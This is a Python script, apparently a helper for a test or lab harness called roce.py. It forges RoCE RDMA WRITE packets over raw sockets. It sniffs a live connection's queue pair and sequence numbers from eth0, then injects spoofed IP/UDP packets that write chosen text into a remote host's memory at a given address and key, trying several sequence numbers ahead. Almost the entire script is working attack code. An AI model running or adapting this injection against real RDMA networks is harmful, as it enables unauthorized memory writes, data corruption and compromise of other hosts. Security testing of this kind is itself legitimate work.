"""Forge a WRITE on a live queue pair, with raw sockets: to be run behind ``roce.py``, in a pod.

Arguments: how, SOURCE, DESTINATION, ADDRESS and KEY of the memory, TEXT to write, and QPN, PSN.
``sniff`` learns queue pair and sequence number from what the pod itself sends (until it is silent);
``told`` takes them as they are given. Prints how many packets it sent.
"""

import socket
import struct
import sys

SNIFF_S = 1.0
AHEAD = 8


def sniffed(source: str, destination: str) -> tuple[int, int]:
    """Return the queue pair that packets go to, and the last sequence number."""
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind(("eth0", 0))
        link.settimeout(20)
        found = None
        while True:
            try:
                frame = link.recv(256)
            except TimeoutError:
                if found is None:
                    raise
                return found
            if len(frame) < 54 or frame[23] != 17 or frame[26:34] != ends:
                continue
            if struct.unpack_from("!H", frame, 36)[0] != PORT:  # noqa: F821 # of roce.py
                continue
            if frame[42] >= RESPONSE_FIRST:  # noqa: F821
                continue
            qpn, psn = struct.unpack_from("!II", frame, 46)
            found = qpn & 0xFFFFFF, psn & 0xFFFFFF
            print("sniffed", file=sys.stderr, flush=True)
            link.settimeout(SNIFF_S)


def main() -> None:
    """Forge."""
    how, source, destination, address, key, text, *numbers = sys.argv[1:]
    qpn, psn = sniffed(source, destination) if how == "sniff" else (int(n, 0) for n in numbers)
    payload = text.encode()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for ahead in range(AHEAD + 1):
            packet = Packet(  # noqa: F821
                opcode=WRITE_ONLY,  # noqa: F821
                qpn=qpn,
                psn=(psn + ahead) % (1 << 24),
                headers=reth(int(address, 0), int(key, 0), len(payload)),  # noqa: F821
                payload=payload,
            )
            data = packet.sealed(source, destination, 0xD000)
            udp = struct.pack("!HHHH", 0xD000, 4791, 8 + len(data), 0)
            ip = struct.pack(
                "!BBHHHBBH4s4s",
                *(0x45, 0, 28 + len(data), 0, 0x4000, 64, 17, 0),
                *(socket.inet_aton(source), socket.inet_aton(destination)),
            )
            raw.sendto(ip + udp + data, (destination, 0))
    print(AHEAD + 1)


if __name__ == "__main__":
    main()
